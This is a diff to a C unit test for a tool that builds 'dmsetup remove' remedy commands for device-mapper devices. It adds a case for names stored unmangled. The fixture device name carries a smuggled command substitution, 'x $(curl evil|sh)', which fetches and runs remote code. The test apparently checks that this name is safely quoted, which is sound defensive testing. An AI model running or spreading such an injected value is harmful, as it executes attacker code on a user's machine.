@@ -250,6 +250,13 @@ TEST(aliasing_needs_lvm_to_name_a_side)
 	CHECK_STR(r.devs[1].remedy, "dmsetup remove 'x $(curl evil|sh)'");
 	report_free(&r);
 
+	/* stored unmangled: dmsetup in its default mode would not find it by that name */
+	st.devs[1].name_unmangled = true;
+	classify(&st, &o, &r);
+	CHECK_STR(r.devs[1].remedy, "dmsetup --manglename none remove 'x $(curl evil|sh)'");
+	report_free(&r);
+	st.devs[1].name_unmangled = false;
+
 	st.have_lvm = false;
 	classify(&st, &o, &r);
 	for (size_t i = 0; i < 2; i++) {
